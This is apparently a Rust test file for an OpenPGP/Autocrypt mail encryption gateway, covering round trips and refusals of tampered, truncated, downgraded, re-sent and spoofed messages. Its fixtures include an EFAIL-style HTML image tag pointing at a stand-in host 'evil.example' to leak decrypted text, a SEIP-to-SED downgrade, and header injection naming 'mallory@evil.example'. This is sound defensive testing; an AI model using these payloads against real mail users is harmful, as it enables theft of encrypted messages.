//! Round trips through our own encrypt and decrypt, and what must never get
//! through: tampering, truncation, downgrade, hostile structures.

mod common;

use autocrypt::{key, AutocryptHeader, PreferEncrypt};
use common::*;
use mailcrypt::{
    add_autocrypt_header, decrypt, encrypt, sign, Boundary, DecryptContext, EncryptRequest,
    HeldKeys, Refusal, SignatureStatus,
};
use sequoia_openpgp::parse::Parse;
use sequoia_openpgp::Cert;
use std::time::SystemTime;

const T0: u64 = 1_700_000_000;

struct People {
    alice: Cert,
    bob: Cert,
    carol: Cert,
}

fn people() -> People {
    let t = at(T0);
    People {
        alice: key::generate("alice@example.org", t).expect("key"),
        bob: key::generate("bob@example.org", t).expect("key"),
        carol: key::generate("carol@example.org", t).expect("key"),
    }
}

fn now() -> SystemTime {
    at(T0 + 86_400)
}

fn public(c: &Cert) -> Cert {
    c.clone().strip_secret_key_material()
}

/// A message a client might send: non-ASCII header, 8-bit text, nested
/// multipart, a binary attachment, a Bcc.
fn client_message(body_text: &str) -> Vec<u8> {
    let mut m = Vec::new();
    m.extend_from_slice(b"From: Alice <alice@example.org>\r\n");
    m.extend_from_slice(b"To: Bob <bob@example.org>, carol@example.org\r\n");
    m.extend_from_slice(b"Bcc: dave@example.org\r\n");
    m.extend_from_slice("Subject: Grüße aus Köln — secret plans\r\n".as_bytes());
    m.extend_from_slice(b"Date: Wed, 15 Nov 2023 10:00:00 +0100\r\n");
    m.extend_from_slice(b"Message-ID: <1@example.org>\r\n");
    m.extend_from_slice(b"MIME-Version: 1.0\r\n");
    m.extend_from_slice(b"Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n");
    m.extend_from_slice(
        b"--outer\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n",
    );
    m.extend_from_slice(b"--alt\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n");
    m.extend_from_slice(body_text.as_bytes());
    m.extend_from_slice(b"\r\n--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>");
    m.extend_from_slice(body_text.as_bytes());
    m.extend_from_slice(b"</p>\r\n--alt--\r\n");
    m.extend_from_slice(b"--outer\r\nContent-Type: application/octet-stream; name=\"a.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\nAAECAwQFBgcICQ==\r\n--outer--\r\n");
    m
}

fn encrypt_for(p: &People, message: &[u8], hide: bool) -> Vec<u8> {
    let t = now();
    let own = AutocryptHeader::new(
        "alice@example.org",
        PreferEncrypt::Mutual,
        key::minimize(&p.alice, "alice@example.org", t).expect("minimize"),
    );
    let recipients = vec![public(&p.bob), public(&p.carol)];
    let gossip = autocrypt::gossip::headers_to_emit(
        &[
            ("bob@example.org", &recipients[0]),
            ("carol@example.org", &recipients[1]),
        ],
        t,
    )
    .expect("gossip");
    let req = EncryptRequest {
        autocrypt: Some(&own),
        gossip: &gossip,
        hide_recipients: hide,
        now: t,
        boundary: Boundary::Fixed("fixed-boundary".into()),
        ..EncryptRequest::new(&p.alice, &recipients)
    };
    encrypt(message, &req).expect("encrypt")
}

/// A request without Autocrypt headers, padded, with a random boundary.
fn plain_request<'a>(
    sender: &'a Cert,
    recipients: &'a [Cert],
    now: SystemTime,
) -> EncryptRequest<'a> {
    EncryptRequest {
        now,
        ..EncryptRequest::new(sender, recipients)
    }
}

/// `held`: which key the keystore holds for which address.
fn ctx<'a>(secret: &'a [Cert], verifiers: &'a [Cert], held: &'a HeldKeys) -> DecryptContext<'a> {
    DecryptContext {
        secret_keys: secret,
        verifier_certs: verifiers,
        signers: held,
        autocrypt_key_verifies: true,
        now: now(),
    }
}

fn split(message: &[u8]) -> (&[u8], &[u8]) {
    let i = message
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("a header section");
    (&message[..i + 2], &message[i + 4..])
}

#[test]
fn round_trip_keeps_headers_and_body_byte_for_byte() {
    let p = people();
    let original = client_message("Der Schlüssel liegt unter der Matte.");
    let sent = encrypt_for(&p, &original, false);
    let outside = String::from_utf8_lossy(&sent);
    assert!(outside.contains("Subject: [...]\r\n"));
    assert!(outside.contains("multipart/encrypted"));
    assert!(outside.contains("Autocrypt: addr=alice@example.org; prefer-encrypt=mutual; keydata="));
    // "Bcc:" with its colon: three letters alone turn up in base64 armor.
    for secret in ["Grüße", "Schlüssel", "Matte", "dave@", "Bcc:", "a.bin"] {
        assert!(
            !outside.contains(secret),
            "{secret:?} visible outside the encryption"
        );
    }

    let (orig_header, orig_body) = split(&original);
    for reader in [&p.bob, &p.carol] {
        let secret = [reader.clone()];
        // The keystore learned the sender's key from the message's Autocrypt
        // header before it was viewed; that key checks the signature.
        let held = HeldKeys::from_user_ids(&[public(&p.alice)]);
        let out = decrypt(&sent, &ctx(&secret, &[], &held));
        assert!(out.decrypted && out.refusal.is_none(), "{:?}", out.refusal);
        assert_eq!(
            out.signature,
            SignatureStatus::Valid {
                fingerprint: p.alice.fingerprint(),
                signer: "alice@example.org".into()
            }
        );
        assert!(out.autocrypt.is_some());
        let (header, body) = split(&out.message);
        assert_eq!(body, orig_body, "the body survives byte for byte");
        let header = String::from_utf8_lossy(header);
        for line in String::from_utf8_lossy(orig_header).split_inclusive("\r\n") {
            if line.starts_with("Bcc:") {
                assert!(!header.contains("Bcc:"), "Bcc never leaves");
            } else if line.starts_with("Content-Type:") {
                assert!(header
                    .contains("Content-Type: multipart/mixed; boundary=\"outer\"; hp=\"cipher\""));
            } else {
                assert!(header.contains(line), "restored header keeps {line:?}");
            }
        }
        for engine_field in [
            "HP-Outer",
            "Letterlock-Padding",
            "Autocrypt-Gossip",
            "Subject: [...]",
        ] {
            assert!(
                !header.contains(engine_field),
                "{engine_field} is not shown to the user"
            );
        }
        let gossip: Vec<_> = out.gossip.iter().map(|g| g.addr.clone()).collect();
        assert_eq!(gossip, ["bob@example.org", "carol@example.org"]);
        // The sender's key is announced inside too (Delta Chat reads it only
        // there), once, and it is what the outer header announces.
        // (The restored header keeps no outer field but transport ones, so
        // what it shows came from inside.)
        let inside: Vec<_> = header
            .split("\r\n")
            .filter(|l| l.starts_with("Autocrypt:"))
            .collect();
        assert_eq!(inside.len(), 1, "{header}");
        let facts = mailcrypt::message_facts(&out.message, now());
        let announced = autocrypt::AutocryptHeader::parse(
            &facts.autocrypt_headers[0],
            Some("alice@example.org"),
        )
        .expect("a valid header inside");
        assert_eq!(announced.cert.fingerprint(), p.alice.fingerprint());
        assert_eq!(
            Some(announced.cert.fingerprint()),
            out.autocrypt.as_ref().map(|a| a.cert.fingerprint())
        );
    }
}

#[test]
fn padding_hides_the_size_of_small_messages() {
    let p = people();
    let short = encrypt_for(&p, &client_message("hi"), false);
    let long = encrypt_for(&p, &client_message(&"a longer secret ".repeat(12)), false);
    assert_eq!(short.len(), long.len(), "both fall into the same bucket");
}

#[test]
fn hidden_recipients_leave_no_key_ids_and_still_decrypt() {
    use sequoia_openpgp::packet::Packet;
    use sequoia_openpgp::PacketPile;
    let p = people();
    let sent = encrypt_for(&p, &client_message("for your eyes only"), true);
    let pile = PacketPile::from_bytes(&armored_part(&sent)).expect("packets");
    let mut pkesks = 0;
    for packet in pile.children() {
        if let Packet::PKESK(pkesk) = packet {
            pkesks += 1;
            assert!(pkesk.recipient().is_none(), "wildcard recipient expected");
        }
    }
    assert_eq!(pkesks, 3, "bob, carol and the sender");
    let secret = [p.carol.clone()];
    assert!(decrypt(&sent, &ctx(&secret, &[], &HeldKeys::new())).decrypted);
}

#[test]
fn message_not_for_us_is_refused_and_left_alone() {
    let p = people();
    let sent = encrypt_for(&p, &client_message("x"), false);
    let stranger = [key::generate("eve@example.org", at(T0)).expect("key")];
    let out = decrypt(&sent, &ctx(&stranger, &[], &HeldKeys::new()));
    assert_eq!(out.refusal, Some(Refusal::NoKey));
    assert_eq!(out.message, sent);
}

/// Replaces the armored part of `sent` with other OpenPGP bytes.
fn with_ciphertext(sent: &[u8], data: &[u8]) -> Vec<u8> {
    let _ = sent;
    pgp_mime("Alice <alice@example.org>", "bob@example.org", data)
}

fn binary(sent: &[u8]) -> Vec<u8> {
    use sequoia_openpgp::armor::{Kind, Reader, ReaderMode};
    use std::io::Read;
    let armored = armored_part(sent);
    let mut reader = Reader::from_bytes(&armored, ReaderMode::Tolerant(Some(Kind::Message)));
    let mut out = Vec::new();
    reader.read_to_end(&mut out).expect("dearmor");
    out
}

/// Offset of the first packet with `tag` in a binary OpenPGP message whose
/// earlier packets have definite lengths (as PKESKs do).
fn packet_offset(data: &[u8], tag: u8) -> usize {
    let mut pos = 0;
    loop {
        let b0 = data[pos];
        assert!(b0 & 0xc0 == 0xc0, "new-format packet header");
        if b0 & 0x3f == tag {
            return pos;
        }
        let b1 = data[pos + 1] as usize;
        let (hlen, blen) = match b1 {
            0..=191 => (2, b1),
            192..=223 => (3, ((b1 - 192) << 8) + data[pos + 2] as usize + 192),
            255 => (
                6,
                u32::from_be_bytes([data[pos + 2], data[pos + 3], data[pos + 4], data[pos + 5]])
                    as usize,
            ),
            _ => panic!("partial length before tag {tag}"),
        };
        pos += hlen + blen;
    }
}

#[test]
fn tampering_truncation_and_downgrade_give_one_uniform_refusal() {
    let p = people();
    let sent = encrypt_for(&p, &client_message("attack at dawn"), false);
    let bin = binary(&sent);
    let seip = packet_offset(&bin, 18);

    let mut flipped = bin.clone();
    let target = seip + (bin.len() - seip) / 2;
    flipped[target] ^= 0x01;

    let truncated = bin[..bin.len() - 40].to_vec();

    // EFAIL downgrade: relabel the integrity-protected packet as plain SED.
    let mut downgraded = bin.clone();
    downgraded[seip] = 0xc0 | 9;

    // The MDC/last bytes removed.
    let mut no_tail = bin.clone();
    no_tail.truncate(bin.len() - 22);

    let secret = [p.bob.clone()];
    for (what, data) in [
        ("flipped", flipped),
        ("truncated", truncated),
        ("downgraded", downgraded),
        ("no tail", no_tail),
    ] {
        let message = with_ciphertext(&sent, &data);
        let out = decrypt(&message, &ctx(&secret, &[], &HeldKeys::new()));
        assert!(!out.decrypted, "{what}: must not decrypt");
        assert_eq!(
            out.refusal,
            Some(Refusal::Integrity),
            "{what}: {:?}",
            out.detail
        );
        assert_eq!(out.message, message, "{what}: served as it came");
        assert!(!String::from_utf8_lossy(&out.message).contains("attack at dawn"));
    }
}

/// sequoia-openpgp 2.4.2 panics (an `unwrap` in `parse.rs`) on a SEIPv1
/// packet whose genuine prefix checks out but whose data ends before the
/// prefix plus an MDC; found by `scripts/fuzz`. The gateway must refuse it
/// like any other damaged ciphertext and keep running.
#[test]
fn seip_shorter_than_prefix_and_mdc_is_refused_not_a_crash() {
    let p = people();
    let sent = encrypt_for(&p, &client_message("short"), false);
    let bin = binary(&sent);
    let seip = packet_offset(&bin, 18);
    let header_len = match bin[seip + 1] {
        0..=191 => 2,
        192..=223 => 3,
        255 => 6,
        _ => 2, // partial length: the first chunk follows one length octet
    };
    // Version octet, the 16-octet block prefix and its 2 check octets, and
    // five more: long enough for the key check, too short for the MDC.
    let body = &bin[seip + header_len..seip + header_len + 1 + 16 + 2 + 5];
    // A partial length promising a 1 KiB first chunk, cut short (as a
    // truncated download would): the parser reads what there is.
    let mut short = bin[..seip].to_vec();
    short.extend_from_slice(&[0xc0 | 18, 0xe0 | 10]);
    short.extend_from_slice(body);

    let message = with_ciphertext(&sent, &short);
    let secret = [p.bob.clone()];
    let out = decrypt(&message, &ctx(&secret, &[], &HeldKeys::new()));
    assert!(!out.decrypted);
    assert_eq!(out.refusal, Some(Refusal::Integrity), "{:?}", out.detail);
    assert_eq!(out.message, message, "served as it came");
}

/// "Re: What's up Johnny?": an attacker re-sends someone's ciphertext with
/// header fields of his own outside it. With the header protected inside,
/// only transport fields from outside are shown.
#[test]
fn outer_fields_beside_a_protected_header_are_not_shown() {
    let p = people();
    let sent = encrypt_for(&p, &client_message("for Bob only"), false);
    let mut resent = b"Received: from mx.example.net by mx.example.org\r\n\
        Reply-To: mallory@evil.example\r\nCc: mallory@evil.example\r\n\
        Disposition-Notification-To: mallory@evil.example\r\n\
        X-Mailer: Mallory's\r\n"
        .to_vec();
    resent.extend_from_slice(&sent);
    let secret = [p.bob.clone()];
    let out = decrypt(&resent, &ctx(&secret, &[], &HeldKeys::new()));
    assert!(out.decrypted);
    let (header, _) = split(&out.message);
    let header = String::from_utf8_lossy(header);
    assert!(
        !header.contains("mallory@") && !header.contains("X-Mailer"),
        "{header}"
    );
    assert!(header.contains("Received: from mx.example.net"), "{header}");
    assert!(
        header.contains("From: Alice <alice@example.org>"),
        "{header}"
    );
}

#[test]
fn encrypted_part_inside_mixed_is_never_decrypted() {
    let p = people();
    let sent = encrypt_for(&p, &client_message("exfiltrate me"), false);
    let armored = String::from_utf8_lossy(&armored_part(&sent)).into_owned();
    let efail = format!(
        "From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n\
         --m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n\
         --m\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n\r\n\
         --e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
         --e\r\nContent-Type: application/octet-stream\r\n\r\n{armored}\r\n--e--\r\n\
         --m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n"
    );
    let secret = [p.bob.clone()];
    let out = decrypt(efail.as_bytes(), &ctx(&secret, &[], &HeldKeys::new()));
    assert!(!out.decrypted);
    assert_eq!(out.refusal, Some(Refusal::Nested));
    assert!(!String::from_utf8_lossy(&out.message).contains("exfiltrate"));
}

#[test]
fn spoofed_status_header_is_removed() {
    let p = people();
    let mut sent = b"Letterlock-Security: encrypted; signature=valid\r\n".to_vec();
    sent.extend_from_slice(&encrypt_for(&p, &client_message("x"), false));
    let secret = [p.bob.clone()];
    let out = decrypt(&sent, &ctx(&secret, &[], &HeldKeys::new()));
    assert!(out.decrypted);
    assert!(!String::from_utf8_lossy(&out.message).contains("Letterlock-Security"));
    let plain = b"Letterlock-Security: encrypted\r\nFrom: a@b\r\n\r\nhello\r\n";
    let out = decrypt(plain, &ctx(&secret, &[], &HeldKeys::new()));
    assert_eq!(out.message, b"From: a@b\r\n\r\nhello\r\n");
}

#[test]
fn signature_by_someone_else_than_from_is_not_valid() {
    let p = people();
    // Bob signs and encrypts a message that claims to come from Alice.
    let forged = client_message("I resign");
    let to = [public(&p.carol)];
    let req = plain_request(&p.bob, &to, now());
    let sent = encrypt(&forged, &req).expect("encrypt");
    let secret = [p.carol.clone()];
    let verifiers = [public(&p.alice), public(&p.bob)];
    let out = decrypt(
        &sent,
        &ctx(&secret, &verifiers, &HeldKeys::from_user_ids(&verifiers)),
    );
    assert!(out.decrypted);
    assert_eq!(
        out.signature,
        SignatureStatus::SignerMismatch {
            fingerprint: p.bob.fingerprint()
        }
    );
    assert!(out.gossip.is_empty());
}

#[test]
fn cleartext_signing_verifies_and_keeps_the_body() {
    let p = people();
    for eol in ["\r\n", "\n"] {
        let message = format!("From: alice@example.org{eol}To: bob@example.org{eol}Subject: hi{eol}{eol}Hello  {eol}-- {eol}Alice{eol}");
        let signed = sign(message.as_bytes(), &p.alice, now(), &Boundary::Random).expect("sign");
        let verifiers = [public(&p.alice)];
        let out = decrypt(
            &signed,
            &ctx(&[], &verifiers, &HeldKeys::from_user_ids(&verifiers)),
        );
        assert!(!out.decrypted);
        assert!(out.signature.is_valid(), "{eol:?}: {:?}", out.signature);
        let text = String::from_utf8_lossy(&signed);
        assert!(text.contains(&format!("Hello  {eol}-- {eol}Alice")));
        // Any change to the signed text breaks the signature.
        let tampered = text.replacen("Hello", "Hallo", 1);
        assert!(matches!(
            decrypt(
                tampered.as_bytes(),
                &ctx(&[], &verifiers, &HeldKeys::from_user_ids(&verifiers))
            )
            .signature,
            SignatureStatus::Bad { .. }
        ));
    }
}

#[test]
fn autocrypt_header_is_added_to_cleartext_mail() {
    let p = people();
    let t = now();
    let header = AutocryptHeader::new(
        "alice@example.org",
        PreferEncrypt::Mutual,
        key::minimize(&p.alice, "alice@example.org", t).expect("minimize"),
    );
    let message = b"From: Alice <alice@example.org>\r\nAutocrypt: addr=alice@example.org; keydata=Zm9v\r\nSubject: x\r\n\r\nbody\r\n";
    let out = add_autocrypt_header(message, &header);
    let values: Vec<String> = String::from_utf8_lossy(&out)
        .split("\r\n\r\n")
        .next()
        .unwrap_or_default()
        .split("\r\nAutocrypt: ")
        .skip(1)
        .map(|v| {
            v.split("\r\nSubject")
                .next()
                .unwrap_or_default()
                .replace("\r\n", "")
        })
        .collect();
    assert_eq!(values.len(), 1, "the client's own header is replaced");
    let (chosen, _) = autocrypt::select_sender_header(&values, "alice@example.org");
    assert_eq!(
        chosen.expect("a valid header").cert.fingerprint(),
        p.alice.fingerprint()
    );
    assert!(out.ends_with(b"\r\n\r\nbody\r\n"));
}

#[test]
fn autocrypt_gossip_example_decrypts_for_bob_and_carol() {
    let message = read("autocrypt-spec/example-gossip.eml");
    // The keys expired in 2021: judge them at the message's date.
    let then = at(1_548_158_189);
    for who in ["bob", "carol"] {
        let secret = [cert(&format!(
            "autocrypt-spec/{who}@autocrypt.example.sec.asc"
        ))];
        let out = decrypt(
            &message,
            &DecryptContext {
                secret_keys: &secret,
                verifier_certs: &[],
                signers: &HeldKeys::new(),
                autocrypt_key_verifies: true,
                now: then,
            },
        );
        assert!(out.decrypted, "{who}: {:?} {:?}", out.refusal, out.detail);
        assert!(out.autocrypt.is_some(), "{who}: Alice's header");
        let text = String::from_utf8_lossy(&out.message);
        assert!(text.contains("Subject: an Autocrypt Gossip header example"));
        assert!(!text.contains("-----BEGIN PGP MESSAGE-----"));
    }
}

#[test]
fn rsa_3072_and_v6_certificates_work() {
    use sequoia_openpgp::cert::{CertBuilder, CipherSuite};
    let p = people();
    let (rsa, _) = CertBuilder::general_purpose(Some("rsa@example.org"))
        .set_cipher_suite(CipherSuite::RSA3k)
        .set_creation_time(at(T0))
        .set_validity_period(None)
        .generate()
        .expect("RSA-3072 key");
    let v6 = cert("thunderbird-openpgp/keys/pgp-v6-sec.asc");
    let carol_rsa = cert("thunderbird-openpgp/keys/carol@example.com-0x3099ff1238852b9f-pub.asc");
    assert!(key::is_encryption_usable(
        &carol_rsa,
        std::time::SystemTime::now()
    ));
    for recipient in [rsa, v6] {
        let to = [public(&recipient)];
        let req = plain_request(&p.alice, &to, std::time::SystemTime::now());
        let sent = encrypt(&client_message("x"), &req).expect("encrypt");
        let secret = [recipient.clone()];
        let verifiers = [public(&p.alice)];
        let out = decrypt(
            &sent,
            &DecryptContext {
                secret_keys: &secret,
                verifier_certs: &verifiers,
                signers: &HeldKeys::from_user_ids(&verifiers),
                autocrypt_key_verifies: true,
                now: std::time::SystemTime::now(),
            },
        );
        assert!(out.decrypted, "{:?} {:?}", out.refusal, out.detail);
        assert!(out.signature.is_valid());
    }
}

#[test]
fn sequoia_test_corpus_gives_clean_answers() {
    let Some(dir) = sequoia_data_dir() else {
        panic!("sequoia-openpgp's source (tests/data) not found in the cargo registry");
    };
    let testy: Vec<Cert> = [
        "testy-private.pgp",
        "testy-new-private.pgp",
        "testy-nistp256-private.pgp",
    ]
    .iter()
    .filter_map(|k| Cert::from_file(dir.join("keys").join(k)).ok())
    .collect();
    let mut files = Vec::new();
    let mut stack = vec![dir.join("messages")];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).expect("dir").flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                files.push(path);
            }
        }
    }
    assert!(files.len() > 50, "found the corpus");
    let mut decrypted = 0;
    for path in files {
        let data = std::fs::read(&path).expect("read");
        if data.len() > 2_000_000 {
            continue;
        }
        let message = pgp_mime("Testy <testy@example.org>", "testy@example.org", &data);
        let out = decrypt(
            &message,
            &DecryptContext {
                secret_keys: &testy,
                verifier_certs: &[],
                signers: &HeldKeys::new(),
                autocrypt_key_verifies: true,
                now: std::time::SystemTime::now(),
            },
        );
        if out.decrypted {
            decrypted += 1;
            assert!(out.refusal.is_none());
        } else {
            assert_eq!(
                out.message,
                message,
                "{}: served as it came",
                path.display()
            );
        }
    }
    assert!(decrypted > 0, "the messages encrypted to testy decrypt");
}

fn sequoia_data_dir() -> Option<std::path::PathBuf> {
    let home = std::env::var_os("CARGO_HOME")
        .map(std::path::PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| std::path::PathBuf::from(h).join(".cargo")))?;
    for index in std::fs::read_dir(home.join("registry/src")).ok()?.flatten() {
        let mut versions: Vec<_> = std::fs::read_dir(index.path())
            .ok()?
            .flatten()
            .map(|e| e.path())
            .filter(|p| {
                p.file_name()
                    .is_some_and(|n| n.to_string_lossy().starts_with("sequoia-openpgp-2."))
            })
            .collect();
        versions.sort();
        if let Some(v) = versions.pop() {
            return Some(v.join("tests/data"));
        }
    }
    None
}

#[test]
fn a_25_megabyte_attachment_round_trips() {
    use base64::Engine;
    let p = people();
    let attachment: Vec<u8> = (0..25_000_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let encoded = base64::engine::general_purpose::STANDARD.encode(&attachment);
    let mut m = b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: big\r\nMIME-Version: 1.0\r\n\
        Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
        --b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        .to_vec();
    for line in encoded.as_bytes().chunks(76) {
        m.extend_from_slice(line);
        m.extend_from_slice(b"\r\n");
    }
    m.extend_from_slice(b"--b--\r\n");
    let to = [public(&p.bob)];
    let req = plain_request(&p.alice, &to, now());
    let sent = encrypt(&m, &req).expect("encrypt");
    let secret = [p.bob.clone()];
    let verifiers = [public(&p.alice)];
    let out = decrypt(
        &sent,
        &ctx(&secret, &verifiers, &HeldKeys::from_user_ids(&verifiers)),
    );
    assert!(out.decrypted && out.signature.is_valid());
    assert_eq!(
        split(&out.message).1,
        split(&m).1,
        "the attachment survives byte for byte"
    );
}
